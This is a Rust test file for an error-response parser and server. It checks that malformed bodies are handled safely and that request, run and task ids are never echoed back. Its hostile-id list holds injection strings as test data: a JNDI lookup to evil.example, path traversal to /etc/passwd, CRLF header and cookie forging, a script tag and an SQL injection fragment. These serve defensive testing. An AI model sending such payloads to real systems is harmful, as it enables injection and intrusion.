//! Hostile input, each case with its expected outcome: bodies seen in the wild or built to
//! break a parser (the SDK must keep the code whenever `error` is a well-formed code, type
//! no other string as one, refuse raw control characters inside JSON strings, drop each bad
//! member on its own and never panic), and request ids built to forge log lines (the server
//! never echoes them, the SDK never returns them).

use error_spec::sdk::Member;
use error_spec::{
    ApiError, ErrorCode, JsonPointer, ParsedError, RenderContext, RequestId, ResponseError,
    UnexpectedReason, UserMessage, headers, parse_error_response,
};
use http::{HeaderMap, HeaderValue, StatusCode};

/// What a body must come out as.
#[derive(Debug)]
enum Want {
    /// A contract body with this code, having dropped exactly these members.
    Api(&'static str, &'static [Member]),
    /// Not a contract body, for this reason, with this code read all the same.
    Unexpected(UnexpectedReason, Option<&'static str>),
    /// JSON whose `error` is a string outside the code grammar: no code, only this escaped
    /// excerpt of the string.
    NoCode(&'static str),
}

use Member::*;
use UnexpectedReason::*;
use Want::{Api, NoCode, Unexpected};

const NGINX_502: &str = "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n\
    <center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n";

const CLOUDFLARE_520: &str = "<!DOCTYPE html>\n<!--[if lt IE 7]> <html class=\"no-js ie6 oldie\" \
    lang=\"en-US\"> <![endif]-->\n<head><title>example.com | 520: Web server is returning an \
    unknown error</title></head><body>{\"error\":\"not_found\"}</body></html>";

fn parse(body: &[u8]) -> ResponseError {
    parse_error_response(StatusCode::BAD_GATEWAY, &HeaderMap::new(), body)
}

fn api(err: ResponseError) -> ParsedError {
    match err {
        ResponseError::Api(api) => api,
        ResponseError::UnexpectedBody(other) => panic!("expected a contract body, got {other}"),
    }
}

/// Checks one body against what it must come out as, and what holds for every result.
fn check(name: &str, body: &[u8], want: &Want) {
    let err = parse(body);
    // Whatever the bytes, the result prints on one line.
    let display = err.to_string();
    assert!(!display.contains(['\n', '\r', '\0']), "{name}: {display}");
    // Whatever the bytes, a code is one a table could declare, and nothing of a malformed
    // one comes out raw.
    if let Some(code) = err.code() {
        assert_eq!(
            error_rules::text::check_code(code.as_str()),
            Ok(()),
            "{name}"
        );
    }
    if let ResponseError::UnexpectedBody(other) = &err
        && let Some(raw) = other.raw_code()
    {
        assert!(!raw.chars().any(char::is_control), "{name}: {raw:?}");
        assert!(raw.len() <= 128, "{name}: {raw:?}");
    }
    match (want, &err) {
        (Api(code, dropped), ResponseError::Api(api)) => {
            assert_eq!(api.code().as_str(), *code, "{name}");
            assert_eq!(err.code().map(|c| c.as_str()), Some(*code), "{name}");
            let got: Vec<Member> = api.dropped().iter().collect();
            assert_eq!(got, *dropped, "{name}: dropped");
        }
        (Unexpected(reason, code), ResponseError::UnexpectedBody(other)) => {
            assert_eq!(other.reason(), *reason, "{name}");
            assert_eq!(
                other.code().map(|c| c.as_str()),
                *code,
                "{name}: salvaged code"
            );
            assert_eq!(err.code().map(|c| c.as_str()), *code, "{name}");
            assert_eq!(other.len(), body.len(), "{name}");
            if code.is_some() {
                assert_eq!(other.raw_code(), None, "{name}");
            }
        }
        (NoCode(raw), ResponseError::UnexpectedBody(other)) => {
            assert_eq!(other.reason(), NotContract, "{name}");
            assert_eq!(err.code(), None, "{name}");
            assert_eq!(other.raw_code(), Some(*raw), "{name}");
        }
        (want, got) => panic!("{name}: wanted {want:?}, got {got:?}"),
    }
}

/// `{"error":"gone","message":"Deleted.",<member>}`: a valid body with one member added.
fn with(member: &str) -> Vec<u8> {
    format!(r#"{{"error":"gone","message":"Deleted.",{member}}}"#).into_bytes()
}

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

const A63: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const A64: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

/// The named bodies and their outcomes.
fn cases() -> Vec<(&'static str, Vec<u8>, Want)> {
    let deep = nested(100_000);
    let mut huge_first = br#"{"error":"internal_error","message":""#.to_vec();
    huge_first.extend(std::iter::repeat_n(b'x', 2 * 1024 * 1024));
    huge_first.extend(br#""}"#);
    let mut huge_late = br#"{"message":""#.to_vec();
    huge_late.extend(std::iter::repeat_n(b'x', 2 * 1024 * 1024));
    huge_late.extend(br#"","error":"internal_error"}"#);
    let all_null = br#"{"error":"conflict","type":null,"title":null,"status":null,"message":null,
        "request_id":null,"run_id":null,"task_id":null,"doc_url":null,"retry_after":null,
        "errors":null}"#;
    vec![
        // What answers instead of the server.
        ("nginx html", NGINX_502.into(), Unexpected(NotJson, None)),
        (
            "cloudflare html with json inside",
            CLOUDFLARE_520.into(),
            Unexpected(NotJson, None),
        ),
        (
            "plain text",
            b"upstream connect error or disconnect/reset before headers".to_vec(),
            Unexpected(NotJson, None),
        ),
        ("empty", b"".to_vec(), Unexpected(Empty, None)),
        ("whitespace", b" \r\n\t ".to_vec(), Unexpected(Empty, None)),
        (
            "bom only",
            b"\xEF\xBB\xBF".to_vec(),
            Unexpected(Empty, None),
        ),
        (
            "utf-16 body",
            "{\"error\":\"gone\"}"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
            Unexpected(NotJson, None),
        ),
        (
            "single quotes",
            b"{'error':'gone'}".to_vec(),
            Unexpected(NotJson, None),
        ),
        (
            "comment",
            b"// gone\n{\"error\":\"gone\"}".to_vec(),
            Unexpected(NotJson, None),
        ),
        // Encodings.
        (
            "bom then body",
            b"\xEF\xBB\xBF{\"error\":\"not_found\",\"message\":\"x\"}".to_vec(),
            Api("not_found", &[]),
        ),
        (
            "invalid utf-8 in message",
            b"{\"error\":\"gone\",\"message\":\"caf\xE9 \xFF\"}".to_vec(),
            Api("gone", &[]),
        ),
        (
            "invalid utf-8 in code",
            b"{\"error\":\"go\xFFne\",\"message\":\"x\"}".to_vec(),
            NoCode("go\u{fffd}ne"),
        ),
        (
            "invalid utf-8 in unknown key",
            b"{\"\xFF\":1,\"error\":\"gone\"}".to_vec(),
            Api("gone", &[]),
        ),
        (
            "lone surrogate in message",
            br#"{"error":"gone","message":"a\ud800b"}"#.to_vec(),
            Api("gone", &[]),
        ),
        (
            "raw newline in message",
            b"{\"error\":\"gone\",\"message\":\"a\nb\"}".to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        // A raw control character inside any JSON string is not JSON (RFC 8259, section 7),
        // on the fast path and in the fallback scanner (reached by invalid UTF-8) alike.
        (
            "raw nul in message",
            b"{\"error\":\"gone\",\"message\":\"a\x00b\"}".to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        (
            "raw nul in code",
            b"{\"error\":\"invalid_api_key\x00\",\"message\":\"x\"}".to_vec(),
            Unexpected(NotJson, None),
        ),
        (
            "raw line feed in code, a forged header",
            b"{\"error\":\"not_found\nX-Injected: 1\",\"message\":\"x\"}".to_vec(),
            Unexpected(NotJson, None),
        ),
        (
            "raw escape in message before the code",
            b"{\"message\":\"\x1b[31mred\",\"error\":\"service_unavailable\"}".to_vec(),
            Unexpected(NotJson, None),
        ),
        (
            "raw tab in a member name",
            b"{\"error\":\"gone\",\"bad\tkey\":1}".to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        (
            "raw control in a nested string",
            b"{\"error\":\"gone\",\"x\":[{\"y\":\"a\x01\"}]}".to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        (
            "raw nul after invalid utf-8, in the scanner",
            b"{\"error\":\"gone\",\"message\":\"\xFF\x00\"}".to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        (
            "raw carriage return in the code, in the scanner",
            b"{\"title\":\"\xFF\",\"error\":\"gone\r\"}".to_vec(),
            Unexpected(NotJson, None),
        ),
        (
            "raw unit separator in errors, in the scanner",
            b"{\"error\":\"gone\",\"errors\":[{\"pointer\":\"/a\",\"message\":\"\xFF\x1f\"}]}"
                .to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        (
            "DEL is not a JSON control character",
            b"{\"error\":\"gone\",\"message\":\"a\x7fb\"}".to_vec(),
            Api("gone", &[]),
        ),
        // A wrong type in each member.
        ("type number", with(r#""type":5"#), Api("gone", &[Type])),
        (
            "title array",
            with(r#""title":["Gone"]"#),
            Api("gone", &[Title]),
        ),
        (
            "status string",
            with(r#""status":"410""#),
            Api("gone", &[Status]),
        ),
        (
            "message number",
            br#"{"error":"gone","message":404}"#.to_vec(),
            Api("gone", &[Message]),
        ),
        (
            "request_id number",
            with(r#""request_id":12345"#),
            Api("gone", &[RequestId]),
        ),
        (
            "run_id object",
            with(r#""run_id":{"id":"run_1"}"#),
            Api("gone", &[RunId]),
        ),
        (
            "task_id bool",
            with(r#""task_id":true"#),
            Api("gone", &[TaskId]),
        ),
        (
            "doc_url array",
            with(r#""doc_url":[]"#),
            Api("gone", &[DocUrl]),
        ),
        (
            "retry_after string",
            with(r#""retry_after":"30""#),
            Api("gone", &[RetryAfter]),
        ),
        (
            "errors string",
            with(r#""errors":"bad""#),
            Api("gone", &[Errors]),
        ),
        (
            "errors object",
            with(r#""errors":{"pointer":"/a","message":"m"}"#),
            Api("gone", &[Errors]),
        ),
        (
            "errors item not an object",
            with(r#""errors":[1,{"pointer":"/a","message":"m"}]"#),
            Api("gone", &[Errors]),
        ),
        (
            "errors item bad pointer",
            with(r#""errors":[{"pointer":"a~2","message":"m"}]"#),
            Api("gone", &[Errors]),
        ),
        (
            "errors item message number",
            with(r#""errors":[{"pointer":"/a","message":1}]"#),
            Api("gone", &[Errors]),
        ),
        // Out-of-range numbers.
        (
            "status 200",
            with(r#""status":200"#),
            Api("gone", &[Status]),
        ),
        (
            "status 70000",
            with(r#""status":70000"#),
            Api("gone", &[Status]),
        ),
        (
            "status negative",
            with(r#""status":-410"#),
            Api("gone", &[Status]),
        ),
        (
            "status fraction",
            with(r#""status":410.5"#),
            Api("gone", &[Status]),
        ),
        (
            "retry_after negative",
            with(r#""retry_after":-1"#),
            Api("gone", &[RetryAfter]),
        ),
        (
            "retry_after fraction",
            with(r#""retry_after":1.5"#),
            Api("gone", &[RetryAfter]),
        ),
        (
            "retry_after over u32",
            with(r#""retry_after":4294967296"#),
            Api("gone", &[RetryAfter]),
        ),
        (
            "retry_after over u64",
            with(r#""retry_after":184467440737095516160"#),
            Api("gone", &[RetryAfter]),
        ),
        (
            "retry_after 1e400",
            with(r#""retry_after":1e400"#),
            Api("gone", &[RetryAfter]),
        ),
        // Nulls.
        (
            "every optional member null",
            all_null.to_vec(),
            Api("conflict", &Member::ALL),
        ),
        (
            "error null",
            br#"{"error":null,"message":"x"}"#.to_vec(),
            Unexpected(NotContract, None),
        ),
        // Duplicate keys: the last readable value wins.
        (
            "error twice",
            br#"{"error":"gone","error":"not_found"}"#.to_vec(),
            Api("not_found", &[]),
        ),
        (
            "error string then number",
            br#"{"error":"gone","error":5}"#.to_vec(),
            Api("gone", &[]),
        ),
        (
            "retry_after good then bad",
            with(r#""retry_after":5,"retry_after":-5"#),
            Api("gone", &[RetryAfter]),
        ),
        // Deep nesting.
        (
            "deep unknown member",
            with(&format!(r#""extra":{deep}"#)),
            Api("gone", &[]),
        ),
        (
            "deep errors",
            with(&format!(r#""errors":{deep}"#)),
            Api("gone", &[Errors]),
        ),
        (
            "deep array alone",
            deep.clone().into_bytes(),
            Unexpected(NotContract, None),
        ),
        (
            "deep unclosed",
            "[".repeat(100_000).into_bytes(),
            Unexpected(Truncated, None),
        ),
        (
            "deep objects unclosed",
            r#"{"a":"#.repeat(50_000).into_bytes(),
            Unexpected(Truncated, None),
        ),
        // Huge bodies: not parsed, but the code at their start is read.
        (
            "huge, code first",
            huge_first,
            Unexpected(TooLarge, Some("internal_error")),
        ),
        ("huge, code last", huge_late, Unexpected(TooLarge, None)),
        // Codes.
        (
            "unknown code",
            br#"{"error":"quota_frozen"}"#.to_vec(),
            Api("quota_frozen", &[]),
        ),
        (
            "uppercase code",
            br#"{"error":"NOT_FOUND","message":"x"}"#.to_vec(),
            NoCode("NOT_FOUND"),
        ),
        (
            "escaped nul in code",
            br#"{"error":"invalid_api_key\u0000","message":"x"}"#.to_vec(),
            NoCode(r"invalid_api_key\0"),
        ),
        ("empty code", br#"{"error":""}"#.to_vec(), NoCode("")),
        (
            "code with escaped newline, a forged header",
            br#"{"error":"not_found\nX-Injected: 1","message":"x"}"#.to_vec(),
            NoCode(r"not_found\nX-Injected: 1"),
        ),
        (
            "code with escaped carriage return and newline",
            br#"{"error":"gone\r\nX-Forged: 1"}"#.to_vec(),
            NoCode(r"gone\r\nX-Forged: 1"),
        ),
        (
            "code with escaped escape",
            br#"{"error":"gone\u001b[2J"}"#.to_vec(),
            NoCode(r"gone\u{1b}[2J"),
        ),
        (
            "code with a bidirectional override",
            br#"{"error":"not_found\u202e"}"#.to_vec(),
            NoCode(r"not_found\u{202e}"),
        ),
        (
            "code with a line separator",
            br#"{"error":"gone\u2028x"}"#.to_vec(),
            NoCode(r"gone\u{2028}x"),
        ),
        (
            "code with a space",
            br#"{"error":"rate limit exceeded"}"#.to_vec(),
            NoCode("rate limit exceeded"),
        ),
        (
            "code with a hyphen",
            br#"{"error":"not-found"}"#.to_vec(),
            NoCode("not-found"),
        ),
        (
            "code with a dot",
            br#"{"error":"not.found"}"#.to_vec(),
            NoCode("not.found"),
        ),
        (
            "code with a quote",
            br#"{"error":"gone\""}"#.to_vec(),
            NoCode("gone\""),
        ),
        (
            "code with a leading digit",
            br#"{"error":"9gone"}"#.to_vec(),
            NoCode("9gone"),
        ),
        (
            "code with a leading underscore",
            br#"{"error":"_gone"}"#.to_vec(),
            NoCode("_gone"),
        ),
        (
            "code with a trailing underscore",
            br#"{"error":"gone_"}"#.to_vec(),
            NoCode("gone_"),
        ),
        (
            "code with a doubled underscore",
            br#"{"error":"go__ne"}"#.to_vec(),
            NoCode("go__ne"),
        ),
        (
            "code in other letters",
            "{\"error\":\"ünïcode\"}".as_bytes().to_vec(),
            NoCode("ünïcode"),
        ),
        (
            "code with a lone surrogate",
            br#"{"error":"gon\udc00e"}"#.to_vec(),
            NoCode("gon\u{fffd}e"),
        ),
        (
            "code of 63 bytes",
            format!(r#"{{"error":"{}"}}"#, "a".repeat(63)).into_bytes(),
            Api(A63, &[]),
        ),
        (
            "code of 64 bytes",
            format!(r#"{{"error":"{}"}}"#, "a".repeat(64)).into_bytes(),
            NoCode(A64),
        ),
        (
            "a malformed code after a good one does not erase it",
            br#"{"error":"gone","error":"Gone!"}"#.to_vec(),
            Api("gone", &[]),
        ),
        (
            "a good code after a malformed one",
            br#"{"error":"Gone!","error":"gone"}"#.to_vec(),
            Api("gone", &[]),
        ),
        (
            "a malformed code in a body cut short",
            br#"{"error":"Gone!","message":"x"#.to_vec(),
            Unexpected(Truncated, None),
        ),
        (
            "code number",
            br#"{"error":404,"message":"x"}"#.to_vec(),
            Unexpected(NotContract, None),
        ),
        (
            "code object",
            br#"{"error":{"code":"gone"}}"#.to_vec(),
            Unexpected(NotContract, None),
        ),
        // Other shapes.
        (
            "array of bodies",
            br#"[{"error":"gone"}]"#.to_vec(),
            Unexpected(NotContract, None),
        ),
        (
            "json string",
            br#""gone""#.to_vec(),
            Unexpected(NotContract, None),
        ),
        ("json null", b"null".to_vec(), Unexpected(NotContract, None)),
        (
            "empty object",
            b"{}".to_vec(),
            Unexpected(NotContract, None),
        ),
        (
            "trailing html",
            br#"{"error":"gone","message":"x"}<html>"#.to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        (
            "two bodies",
            br#"{"error":"gone"}{"error":"conflict"}"#.to_vec(),
            Unexpected(NotJson, Some("gone")),
        ),
        (
            "cut after the code",
            br#"{"error":"gone","message":"Del"#.to_vec(),
            Unexpected(Truncated, Some("gone")),
        ),
        (
            "cut in the code",
            br#"{"error":"go"#.to_vec(),
            Unexpected(Truncated, None),
        ),
    ]
}

#[test]
fn every_hostile_body_has_its_expected_outcome() {
    let cases = cases();
    assert!(cases.len() >= 40, "{} cases", cases.len());
    for (name, body, want) in &cases {
        check(name, body, want);
    }
}

#[test]
fn what_is_read_from_hostile_bodies_is_what_they_said() {
    let message = |body: &[u8]| api(parse(body)).message().map(|m| m.as_str().to_owned());
    assert_eq!(
        message(b"{\"error\":\"gone\",\"message\":\"caf\xE9 \xFF\"}").as_deref(),
        Some("caf\u{fffd} \u{fffd}")
    );
    assert_eq!(
        message(br#"{"error":"gone","message":"a\ud800b\udc00\ud83d\ude00"}"#).as_deref(),
        Some("a\u{fffd}b\u{fffd}\u{1f600}")
    );
    assert_eq!(message(br#"{"error":"gone","message":404}"#), None);
    let parsed = api(parse(&with(
        r#""retry_after":5,"retry_after":-5,"errors":[1,{"pointer":"/a~1b","message":"m"}]"#,
    )));
    assert_eq!(parsed.body().retry_after(), Some(5));
    let errors = parsed.body().errors();
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].pointer().tokens().collect::<Vec<_>>(), ["a/b"]);
    assert_eq!(errors[0].message().as_str(), "m");
    // A string with control characters is no code; what is printed of the body is escaped.
    let err = parse(br#"{"error":"gone\r\nX-Forged: 1","message":"a\u2028b"}"#);
    assert_eq!(err.code(), None);
    assert!(!err.to_string().contains(['\r', '\n']), "{err}");
    // A long malformed code is kept as a bounded excerpt, cut on a whole escape.
    let long = format!(r#"{{"error":"{}"}}"#, "\\u0007".repeat(100));
    let ResponseError::UnexpectedBody(other) = parse(long.as_bytes()) else {
        panic!("no code");
    };
    let raw = other.raw_code().expect("an excerpt");
    assert!(raw.len() <= 128 && raw.ends_with("\\u{7}…"), "{raw}");
    // A message's control characters, escaped in JSON, are kept as text and escaped where
    // they are printed.
    let parsed = api(parse(br#"{"error":"gone","message":"a\nb"}"#));
    assert_eq!(parsed.to_string(), r"gone (502): a\nb");
}

#[test]
fn a_real_body_cut_at_every_byte_is_truncated_and_keeps_its_code_once_read() {
    let body = ApiError::new(ErrorCode::ValidationError)
        .with_field_error(
            JsonPointer::root().push("inputs").push_index(0).push("url"),
            UserMessage::user_safe("Not a URL."),
        )
        .with_run_id("run_1")
        .to_body(
            &RequestId::parse("req_cut").expect("a valid id"),
            "https://docs.example.com/errors",
        )
        .to_json();
    let text = String::from_utf8(body.clone()).expect("UTF-8");
    let member = r#""error":"validation_error""#;
    let code_read_at = text.find(member).expect("the body has its code") + member.len();
    for cut in 0..body.len() {
        let want = match cut {
            0 => Unexpected(Empty, None),
            cut if cut >= code_read_at => Unexpected(Truncated, Some("validation_error")),
            _ => Unexpected(Truncated, None),
        };
        check(&format!("cut at {cut}"), &body[..cut], &want);
    }
    check("whole", &body, &Api("validation_error", &[]));
}

/// Request ids that must never be echoed or returned: each could forge a log line or a
/// header, carry markup or a lookup, or is no single id at all.
fn hostile_ids() -> Vec<Vec<u8>> {
    vec![
        b"abc\r\nX-Forged: 1".to_vec(),
        b"abc\nfake log line".to_vec(),
        b"a\0b".to_vec(),
        b"\x1b[31mred".to_vec(),
        b"tab\there".to_vec(),
        b"two words".to_vec(),
        b"first, second".to_vec(),
        b"a,b".to_vec(),
        b"<script>alert(1)</script>".to_vec(),
        b"${jndi:ldap://evil.example/a}".to_vec(),
        b"../../etc/passwd".to_vec(),
        b"%0d%0aSet-Cookie:x=1".to_vec(),
        b"id\"quote".to_vec(),
        b"'or'1'='1".to_vec(),
        b"caf\xc3\xa9".to_vec(),
        "\u{202e}gnp.exe".as_bytes().to_vec(),
        "line\u{2028}break".as_bytes().to_vec(),
        b"".to_vec(),
        vec![b'a'; RequestId::MAX_LEN + 1],
        vec![b'x'; 100_000],
    ]
}

#[test]
fn the_server_never_echoes_a_hostile_request_id() {
    let ids = hostile_ids();
    assert!(ids.len() >= 15);
    let mut sent = 0;
    for id in &ids {
        // Ids `http` refuses (control bytes) cannot arrive in a header at all.
        let Ok(value) = HeaderValue::from_bytes(id) else {
            continue;
        };
        sent += 1;
        let mut incoming = HeaderMap::new();
        incoming.insert(headers::X_REQUEST_ID, value);
        let context = RenderContext::from_request_headers(&incoming);
        let minted = context.request_id().as_str();
        assert!(minted.starts_with("req_"), "{id:?} gave {minted}");
        let response = ApiError::new(ErrorCode::NotFound).to_response(&context);
        assert_eq!(response.headers()[headers::X_REQUEST_ID], minted);
        let body = String::from_utf8_lossy(response.body());
        assert!(body.contains(minted));
        if !id.is_empty() {
            let id = String::from_utf8_lossy(id);
            assert!(!body.contains(&*id), "{id:?} echoed in {body}");
        }
    }
    assert!(sent >= 12, "only {sent} ids could be sent");
}

#[test]
fn a_repeated_request_id_is_not_echoed() {
    let mut incoming = HeaderMap::new();
    incoming.append(headers::X_REQUEST_ID, HeaderValue::from_static("first"));
    incoming.append(headers::X_REQUEST_ID, HeaderValue::from_static("second"));
    let id = RenderContext::from_request_headers(&incoming);
    assert!(id.request_id().as_str().starts_with("req_"), "{id:?}");
    // The same id sent once is echoed.
    let mut incoming = HeaderMap::new();
    incoming.append(headers::X_REQUEST_ID, HeaderValue::from_static("first"));
    let id = RenderContext::from_request_headers(&incoming);
    assert_eq!(id.request_id().as_str(), "first");
}

#[test]
fn the_sdk_never_returns_a_hostile_id() {
    for id in hostile_ids() {
        let text = String::from_utf8_lossy(&id);
        // In the body, each id member is dropped, and named as dropped.
        for (member, name) in [
            (Member::RequestId, "request_id"),
            (Member::RunId, "run_id"),
            (Member::TaskId, "task_id"),
        ] {
            let body = serde_json::json!({ "error": "gone", name: text }).to_string();
            let parsed = api(parse(body.as_bytes()));
            assert_eq!(parsed.request_id(), None, "{text:?}");
            assert_eq!(parsed.body().request_id(), None, "{text:?}");
            assert_eq!(parsed.body().run_id(), None, "{text:?}");
            assert_eq!(parsed.body().task_id(), None, "{text:?}");
            assert!(parsed.dropped().contains(member), "{name} {text:?}");
        }
        // In the header, it is ignored, and the body's safe id is used instead.
        if let Ok(value) = HeaderValue::from_bytes(&id) {
            let mut head = HeaderMap::new();
            head.insert(headers::X_REQUEST_ID, value);
            let body = br#"{"error":"gone","request_id":"req_body"}"#;
            let err = parse_error_response(StatusCode::GONE, &head, body);
            assert_eq!(err.request_id(), Some("req_body"), "{text:?}");
            let err = parse_error_response(StatusCode::GONE, &head, b"<html>");
            assert_eq!(err.request_id(), None, "{text:?}");
        }
    }
    // Two `X-Request-Id` headers are no single id either.
    let mut head = HeaderMap::new();
    head.append(headers::X_REQUEST_ID, HeaderValue::from_static("req_a"));
    head.append(headers::X_REQUEST_ID, HeaderValue::from_static("req_b"));
    assert_eq!(
        parse_error_response(StatusCode::GONE, &head, b"").request_id(),
        None
    );
}

#[test]
fn the_server_never_reflects_a_hostile_run_or_task_id() {
    for id in hostile_ids() {
        let id = String::from_utf8_lossy(&id).into_owned();
        let body = ApiError::new(ErrorCode::NotFound)
            .with_run_id(id.clone())
            .with_task_id(id.clone())
            .to_body(&RequestId::mint(), "https://docs.example.com/errors");
        assert_eq!(body.run_id(), None, "{id:?}");
        assert_eq!(body.task_id(), None, "{id:?}");
        let json = String::from_utf8(body.to_json()).expect("UTF-8");
        assert!(
            !json.contains("run_id") && !json.contains("task_id"),
            "{json}"
        );
    }
    let body = ApiError::new(ErrorCode::NotFound)
        .with_run_id("run_01HZX3Q8W6")
        .to_body(&RequestId::mint(), "https://docs.example.com/errors");
    assert_eq!(body.run_id(), Some("run_01HZX3Q8W6"));
}
